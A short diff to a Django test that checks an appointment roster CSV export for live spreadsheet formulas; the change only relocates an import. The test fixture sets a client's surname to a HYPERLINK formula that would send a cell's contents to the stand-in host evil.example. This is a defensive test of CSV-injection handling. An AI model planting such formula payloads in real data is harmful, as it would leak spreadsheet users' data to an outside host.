@@ -25,10 +25,10 @@ def test_ordinary_cells_are_unchanged() -> None:
 
 @pytest.mark.django_db
 def test_the_roster_csv_holds_no_live_formula(client: Any) -> None:
+    from guichet.accounts.tests.factories import staff
     from guichet.appointments.services import book
     from guichet.appointments.tests.factories import PlaceFactory, SessionFactory
     from guichet.appointments.tests.test_booking import registered_client, user_of
-    from guichet.backoffice.tests.test_calendar import staff
 
     attacker = registered_client()
     attacker.last_name = '=HYPERLINK("http://evil.example/?d="&A1,"Voir")'
